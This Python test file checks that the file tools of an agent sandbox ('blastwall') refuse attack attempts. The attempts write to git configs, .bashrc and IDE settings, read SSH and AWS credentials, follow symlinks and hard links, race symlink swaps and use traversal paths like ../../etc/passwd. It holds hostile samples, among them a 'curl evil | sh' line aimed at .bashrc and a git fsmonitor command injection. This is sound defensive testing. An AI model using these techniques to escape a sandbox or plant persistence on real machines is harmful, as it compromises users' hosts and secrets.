"""File tools obey the same boundary as commands: the MCP server and the SDK, attacked as an agent would.

The file tools run on the host side; an agent refused by the sandbox would
simply ask the tool next to it.  Each test drives a real shell -- ``blastwall
mcp`` over stdio, the SDK's local backend -- and judges on the host: the
protected file's bytes, ``git status`` running nothing, no file outside the
workspace.  Each also shows the legitimate write and read working.  The
service's file API is attacked in tests/service/test_file_tools.py.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import threading
import time

import pytest

from tests.attacks.host import snapshot
from tests.attacks.tiers import tier_run, tiers_for
from tests.conftest import SECRET, bw_env, needs_bwrap

pytestmark = needs_bwrap


class Mcp:
    """``blastwall mcp`` over stdio, as an agent's MCP client speaks to it."""

    def __init__(self, *, home, workspace, policy=None):
        args = [sys.executable, "-m", "blastwall", "mcp", "--workspace", str(workspace)]
        if policy:
            args += ["--policy", str(policy)]
        self.proc = subprocess.Popen(args, cwd=workspace, env=bw_env(home), stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        self.next_id = 0
        self.call("initialize", {"protocolVersion": "2025-06-18", "capabilities": {},
                                 "clientInfo": {"name": "attacker", "version": "1"}})

    def call(self, method, params):
        self.next_id += 1
        self.proc.stdin.write(json.dumps({"jsonrpc": "2.0", "id": self.next_id, "method": method,
                                          "params": params}) + "\n")
        self.proc.stdin.flush()
        return json.loads(self.proc.stdout.readline())

    def _tool(self, name, **arguments):
        reply = self.call("tools/call", {"name": name, "arguments": arguments})
        assert "result" in reply, reply  # A refusal is a tool error, never a protocol error.
        result = reply["result"]
        return not result["isError"], result["content"][0]["text"]

    def write(self, path, text):
        return self._tool("write_file", path=path, content=text)

    def read(self, path):
        return self._tool("read_file", path=path)

    def close(self):
        self.proc.stdin.close()
        self.proc.wait(timeout=30)


class Sdk:
    """The SDK's local backend, in this process."""

    def __init__(self, *, home, workspace, policy=None):
        from blastwall.client import Sandbox

        self.sandbox = Sandbox.create(workspace=str(workspace), policy_file=str(policy) if policy else None,
                                      environ=bw_env(home))

    def _do(self, operation):
        from blastwall.client import SandboxFileError

        try:
            return True, operation()
        except SandboxFileError as exc:
            return False, f"{exc} [{exc.code}]"

    def write(self, path, text):
        return self._do(lambda: self.sandbox.files.write(path, text))

    def read(self, path):
        return self._do(lambda: self.sandbox.files.read(path))

    def close(self):
        self.sandbox.kill()


SHELLS = {"mcp": Mcp, "sdk": Sdk}


@pytest.fixture(params=sorted(SHELLS))
def shell_kind(request):
    return request.param


def open_shell(kind, **kwargs):
    return SHELLS[kind](**kwargs)


PROTECTED = [".git/config", ".git/hooks/pre-commit", ".git/hooks/x", ".bashrc", ".vscode/settings.json",
             ".vscode/tasks.json", ".mcp.json", ".envrc", ".blastwall/policy.toml", ".claude/settings.json",
             ".gitmodules", ".gitconfig", ".idea/workspace.xml", ".git/modules/sub/config"]


@pytest.mark.parametrize("existing", [True, False], ids=["existing", "not-yet-existing"])
def test_mandatory_write_denies_hold_for_file_tools(shell_kind, existing, home, workspace):
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    if existing:
        for rel in PROTECTED:
            (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
            (workspace / rel).write_text("# original\n")  # A comment: valid in every one of them, git's configs too.
    before = snapshot(workspace)
    shell = open_shell(shell_kind, home=home, workspace=workspace)
    try:
        for rel in PROTECTED:
            ok, said = shell.write(rel, "PWNED\n")
            assert not ok and "read-only in the sandbox" in said and "mandatory-deny" in said, (rel, said)
        assert snapshot(workspace) == before
        assert shell.write("src/ok.txt", "legitimate\n")[0]  # The control, in the same workspace.
        assert shell.read("src/ok.txt") == (True, "legitimate\n")
    finally:
        shell.close()
    assert (workspace / "src" / "ok.txt").read_text() == "legitimate\n"


def test_fsmonitor_planted_by_a_file_tool_never_runs(shell_kind, home, workspace, scratch):
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    marker = scratch / "PWNED"
    config = f"[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch {marker}\n"
    shell = open_shell(shell_kind, home=home, workspace=workspace)
    try:
        assert not shell.write(".git/config", config)[0]
        # Around it: a link to it written through, and a `.git` of the tool's own in a fresh place.
        os.symlink(".git/config", workspace / "cfg")
        assert not shell.write("cfg", config)[0]
        assert shell.write("notes.txt", "fine\n")[0]
    finally:
        shell.close()
    subprocess.run(["git", "-C", str(workspace), "status", "--short"], capture_output=True, timeout=30)
    assert not marker.exists()
    assert "fsmonitor" not in (workspace / ".git" / "config").read_text()


def test_secret_list_when_the_workspace_is_home(shell_kind, home):
    before_rc = (home / ".bashrc").read_text()
    shell = open_shell(shell_kind, home=home, workspace=home)
    try:
        ok, said = shell.read(".aws/credentials")
        assert not ok and SECRET not in said and "hidden in the sandbox" in said, said
        for rel in (".ssh/id_ed25519", ".netrc"):
            ok, said = shell.read(rel)
            assert not ok and SECRET not in said, (rel, said)
        assert not shell.write(".bashrc", "curl evil | sh\n")[0]
        assert not shell.write(".aws/config", "x\n")[0]
        assert shell.read("notes.txt") == (True, "an ordinary readable file\n")  # The control.
    finally:
        shell.close()
    assert (home / ".bashrc").read_text() == before_rc
    assert not (home / ".aws" / "config").exists()


def test_deny_read_entry_is_hidden_from_the_tools_as_from_commands(shell_kind, home, workspace, scratch):
    (workspace / "secrets.env").write_text(f"TOKEN={SECRET}\n")
    (workspace / "config").mkdir()
    (workspace / "config" / "prod.key").write_text(SECRET)
    policy = scratch / "policy.toml"
    policy.write_text('[filesystem]\ndeny_read = ["secrets.env", "config"]\n')
    shell = open_shell(shell_kind, home=home, workspace=workspace, policy=policy)
    try:
        for rel in ("secrets.env", "config/prod.key"):
            ok, said = shell.read(rel)
            assert not ok and SECRET not in said and "deny-read" in said, (rel, said)
        assert not shell.write("secrets.env", "overwritten\n")[0]
        assert shell.write("app.py", "print(1)\n")[0] and shell.read("app.py") == (True, "print(1)\n")
    finally:
        shell.close()
    assert (workspace / "secrets.env").read_text() == f"TOKEN={SECRET}\n"
    r = subprocess.run([sys.executable, "-m", "blastwall", "run", "--policy", str(policy), "--", "cat",
                        "secrets.env"], cwd=workspace, env=bw_env(home), capture_output=True, text=True, timeout=60)
    assert SECRET not in r.stdout  # The command inside is refused the same file.


def test_symlinks_to_a_secret_or_a_protected_file(shell_kind, home, workspace):
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    config_before = (workspace / ".git" / "config").read_bytes()
    for name, target in (("leak", home / ".aws" / "credentials"), ("cfg", workspace / ".git" / "config"),
                         ("sshdir", home / ".ssh"), ("rc", home / ".bashrc")):
        os.symlink(target, workspace / name)
    rc_before = (home / ".bashrc").read_text()
    shell = open_shell(shell_kind, home=home, workspace=workspace)
    try:
        for rel in ("leak", "sshdir/id_ed25519", "cfg"):
            ok, said = shell.read(rel)
            assert not ok and SECRET not in said, (rel, said)
        for rel in ("cfg", "rc", "sshdir/authorized_keys"):
            assert not shell.write(rel, "PWNED\n")[0], rel
        assert shell.write("real.txt", "ok\n")[0]
    finally:
        shell.close()
    assert (workspace / ".git" / "config").read_bytes() == config_before
    assert (home / ".bashrc").read_text() == rc_before
    assert not (home / ".ssh" / "authorized_keys").exists()


def test_symlink_swapped_in_between_calls(shell_kind, home, workspace):
    """A racing process keeps replacing a writable file with a link to the user's ~/.bashrc."""
    rc_before = (home / ".bashrc").read_text()
    target = workspace / "swap.txt"
    stop = threading.Event()

    def swap():
        while not stop.is_set():
            for make in (lambda: target.write_text("plain\n"), lambda: os.symlink(home / ".bashrc", target)):
                try:
                    target.unlink()
                except FileNotFoundError:
                    pass
                try:
                    make()
                except FileExistsError:
                    pass

    shell = open_shell(shell_kind, home=home, workspace=workspace)
    racer = threading.Thread(target=swap)
    racer.start()
    try:
        written = 0
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            ok, _ = shell.write("swap.txt", "PWNED\n")
            written += ok
            ok, said = shell.read("swap.txt")
            # Never the bashrc read through the link ("" is the racer's file between its creation and its write).
            assert not ok or said in ("", "plain\n", "PWNED\n"), said
    finally:
        stop.set()
        racer.join()
        shell.close()
    assert (home / ".bashrc").read_text() == rc_before
    assert written > 0  # The control: while it was a plain file, the tool wrote it.


def test_hard_link_to_a_protected_file_is_replaced_not_written_through(shell_kind, home, workspace):
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    config = workspace / ".git" / "config"
    before = config.read_bytes()
    os.link(config, workspace / "config-link")
    shell = open_shell(shell_kind, home=home, workspace=workspace)
    try:
        ok, said = shell.write("config-link", "[core]\n\tfsmonitor = touch /tmp/pwned\n")
    finally:
        shell.close()
    assert config.read_bytes() == before  # Whatever the tool answered, the protected file is untouched.
    if ok:
        assert os.stat(workspace / "config-link").st_ino != os.stat(config).st_ino


@pytest.mark.parametrize("path", ["../outside.txt", "../../etc/passwd", "/etc/passwd", "a/../../outside.txt",
                                  "./../outside.txt", "a\x00b", "", "x" * 300])
def test_paths_that_leave_the_workspace(shell_kind, path, home, workspace, scratch):
    (scratch / "outside.txt").write_text("host file\n")
    before = snapshot(scratch)
    shell = open_shell(shell_kind, home=home, workspace=workspace)
    try:
        ok, said = shell.read(path)
        assert not ok and "host file" not in said and "root:" not in said, said
        assert not shell.write(path, "PWNED\n")[0]
    finally:
        shell.close()
    assert snapshot(scratch) == before


def test_fifo_and_device_are_never_opened_for_blocking_io(shell_kind, home, workspace):
    os.mkfifo(workspace / "fifo")
    device = os.geteuid() == 0
    if device:
        os.mknod(workspace / "tty", 0o666 | stat.S_IFCHR, os.makedev(5, 0))  # /dev/tty: opening it would block
    shell = open_shell(shell_kind, home=home, workspace=workspace)
    try:
        started = time.monotonic()
        for rel in ("fifo", *(["tty"] if device else [])):
            assert not shell.read(rel)[0], rel
            assert not shell.write(rel, "x")[0], rel
        assert time.monotonic() - started < 10
        assert shell.write("ok.txt", "ok\n")[0]
    finally:
        shell.close()
    assert stat.S_ISFIFO(os.lstat(workspace / "fifo").st_mode)


def test_oversized_write_is_refused_whole(home, workspace):
    from blastwall.client import Sandbox, SandboxFileError
    from blastwall.tiers.files import MAX_FILE_BYTES

    sandbox = Sandbox.create(workspace=str(workspace), environ=bw_env(home))
    try:
        sandbox.files.write("data.bin", b"old")
        with pytest.raises(SandboxFileError, match=str(MAX_FILE_BYTES)):
            sandbox.files.write("data.bin", b"x" * (MAX_FILE_BYTES + 1))
        assert sandbox.files.read("data.bin", format="bytes") == b"old"  # Not half-written.
    finally:
        sandbox.kill()
    assert [p.name for p in workspace.iterdir() if p.name.startswith(".blastwall-")] == []


# -- the file tools and a command inside agree on every path of the plan ----------------------------------

AGREE_PATHS = [".git/config", ".git/hooks/pre-commit", ".git/description", ".git/info/exclude", ".bashrc",
               ".vscode/tasks.json", ".mcp.json", ".gitmodules", "secrets.env", "private/key.pem", "private/x",
               "migrations/001.sql", "migrations/new.sql", "src/app.py", "docs/readme.md", ".claude/x/y",
               "notes.txt"]


@pytest.mark.parametrize("tier", tiers_for("rename-protected-ancestor"))
def test_file_tools_and_commands_agree_on_every_path(tier, home, workspace, scratch, tier_env):
    from blastwall import api
    from blastwall.errors import ContainmentError
    from blastwall.policy import plan as P
    from blastwall.policy.model import parse_layer
    from blastwall.tiers.files import Files

    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    for rel in ("secrets.env", "private/key.pem", "migrations/001.sql", "notes.txt"):
        (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
        (workspace / rel).write_text("original\n")
    flags = ["--deny-read", "secrets.env", "--deny-read", "private", "--deny-write", "migrations"]
    layer = parse_layer({"filesystem": {"deny_read": ["secrets.env", "private"], "deny_write": ["migrations"]},
                         "sandbox": {"tier": tier}}, "test")
    env = bw_env(home, tier_env)
    plan = api.plan_for(api.load(flags=layer, workspace=str(workspace), environ=env), workspace=str(workspace),
                        cwd=str(workspace), environ=env)
    # A file at (or, for a directory, in) every path of the plan inside the workspace, and the listed ones.
    paths = set(AGREE_PATHS)
    for op in plan.operations:
        if getattr(op, "path", None) and P.is_within(op.path, str(workspace)) and op.path != str(workspace):
            rel = os.path.relpath(op.path, workspace)
            directory = type(op) in (P.Pin, P.Placeholder, P.Writable) or os.path.isdir(op.path)
            paths.add(f"{rel}/probe.txt" if directory else rel)
    paths = sorted(paths)
    script = "".join(f"(mkdir -p \"$(dirname '{p}')\" 2>/dev/null; printf inside >> '{p}') 2>/dev/null "
                     f"&& echo 'W {p}' || echo 'R {p}'\n" for p in paths)
    r = tier_run(tier, script, home=home, workspace=workspace, env=tier_env, args=flags)
    inside = {line[2:]: line[0] == "W" for line in r.stdout.splitlines() if line[:2] in ("W ", "R ")}
    assert set(inside) == set(paths), (r.stdout, r.stderr)
    files = Files(plan)
    outside = {}
    for p in paths:
        try:
            files.write(p, b"tool")
            outside[p] = True
        except ContainmentError:
            outside[p] = False
    disagree = {p: (inside[p], outside[p]) for p in paths if inside[p] != outside[p]}
    assert disagree == {}, disagree
    assert inside["src/app.py"] and not inside[".git/config"] and not inside["secrets.env"]  # The mix is real.
